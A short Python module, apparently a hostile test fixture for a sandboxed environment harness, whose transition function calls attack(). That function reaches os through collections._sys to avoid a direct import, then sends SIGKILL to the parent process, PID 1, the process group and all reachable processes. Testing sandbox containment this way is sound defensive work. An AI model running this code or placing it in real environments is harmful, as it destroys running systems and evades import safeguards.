"""Kills its parent, process 1, its group, and everything that it may."""
# ends: ok

import collections

sys = collections._sys
modules = sys.modules
os = modules["os"]


def attack():
    got = []
    for process in (os.getppid(), 1, 0, -1):
        try:
            os.kill(process, 9)
            got.append(process)
        except OSError:
            pass
    return got


def transition(state, action):
    for one in attack():
        state.add("Got", what=str(one))
    return state


def reward(state, action, next_state, goal):
    return 0.0, False
